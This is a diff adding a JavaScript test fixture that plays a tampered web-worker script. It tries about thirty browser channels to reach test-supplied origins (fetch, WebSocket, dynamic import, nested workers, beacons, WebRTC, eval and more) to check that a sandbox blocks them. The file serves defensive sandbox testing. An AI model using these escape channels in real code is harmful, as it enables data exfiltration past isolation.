@@ -1,0 +1,102 @@
+// What a tampered script would do, put before the text of a worker: it takes hold of everything that the browser
+// offers before seal.js can take it away, and tries to get out with each.
+
+/** Where to; the test puts it before this. */
+const { ORIGINS } = globalThis;
+// What is held here stays, whatever is taken from the global object.
+const {
+  Blob,
+  EventSource,
+  FontFace,
+  Notification,
+  Request,
+  WebSocket,
+  Worker,
+  XMLHttpRequest,
+  caches,
+  createImageBitmap,
+  fetch,
+  importScripts,
+  navigator,
+} = globalThis;
+const { createObjectURL } = URL;
+
+/** @type {[way: string, attempt: (url: string) => unknown][]} */
+const ways = [
+  ["fetch", (url) => fetch(url)],
+  ["fetch no-cors", (url) => fetch(url, { mode: "no-cors", keepalive: true, method: "POST", body: "x" })],
+  ["request", (url) => fetch(new Request(url))],
+  ["fetch later", (url) => globalThis.fetchLater(url)],
+  [
+    "xhr",
+    (url) => {
+      const request = new XMLHttpRequest();
+      request.open("POST", url, false);
+      request.send("x");
+    },
+  ],
+  ["websocket", (url) => new WebSocket(url.replace("http", "ws"))],
+  ["websocketstream", (url) => new globalThis.WebSocketStream(url.replace("http", "ws"))],
+  ["eventsource", (url) => new EventSource(url)],
+  ["webtransport", (url) => new globalThis.WebTransport(url.replace("http:", "https:"))],
+  ["import", (url) => import(url)],
+  ["import json", (url) => import(url, { with: { type: "json" } })],
+  ["import css", (url) => import(url, { with: { type: "css" } })],
+  ["import text", (url) => import(url, { with: { type: "text" } })],
+  ["import bytes", (url) => import(url, { with: { type: "bytes" } })],
+  ["import of a text", (url) => import(createObjectURL(script(`import ${JSON.stringify(url)}`)))],
+  ["import of an address", (url) => import(`data:text/javascript,import ${JSON.stringify(url)}`)],
+  ["importScripts", (url) => importScripts(url)],
+  ["worker", (url) => new Worker(url)],
+  ["module worker", (url) => new Worker(url, { type: "module" })],
+  ["worker of a text", (url) => new Worker(createObjectURL(script(`fetch(${JSON.stringify(url)})`)))],
+  ["worker of an address", (url) => new Worker(`data:text/javascript,fetch(${JSON.stringify(url)})`)],
+  ["shared worker", (url) => new globalThis.SharedWorker(url)],
+  ["service worker", (url) => navigator.serviceWorker.register(url)],
+  ["cache", async (url) => (await caches.open("x")).add(url)],
+  ["font", (url) => new FontFace("x", `url(${JSON.stringify(url)})`).load()],
+  ["beacon", (url) => navigator.sendBeacon(url, "x")],
+  [
+    "webrtc",
+    (url) => new globalThis.RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(url).host}` }] }),
+  ],
+  ["eval", (url) => globalThis.eval(`fetch(${JSON.stringify(url)})`)],
+  ["function", (url) => new Function("url", "return fetch(url)")(url)],
+  ["timer", (url) => setTimeout(`fetch(${JSON.stringify(url)})`)],
+  ["streaming", (url) => WebAssembly.compileStreaming(fetch(url))],
+  [
+    "image",
+    (url) =>
+      createImageBitmap(
+        new Blob([`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>`], {
+          type: "image/svg+xml",
+        }),
+      ),
+  ],
+  ["notification", (url) => new Notification("x", { icon: url, image: url, badge: url })],
+  ["background fetch", (url) => globalThis.registration.backgroundFetch.fetch("x", url)],
+  ["crypto", (url) => globalThis.crossOriginStorage.requestFileHandles([url])],
+  [
+    "blank worker, then its script",
+    (url) => new Worker(createObjectURL(script(`import(${JSON.stringify(url)})`)), { type: "module" }),
+  ],
+];
+
+/** @param {string} text */
+const script = (text) => new Blob([text], { type: "text/javascript" });
+
+for (const origin of ORIGINS) {
+  for (const [way, attempt] of ways) {
+    const url = `${origin}/try/${encodeURIComponent(way)}?FOUR`;
+    // Now, and once the worker is at work.
+    for (const when of [0, 1500]) {
+      setTimeout(async () => {
+        try {
+          await attempt(url);
+        } catch {
+          // Refused.
+        }
+      }, when);
+    }
+  }
+}
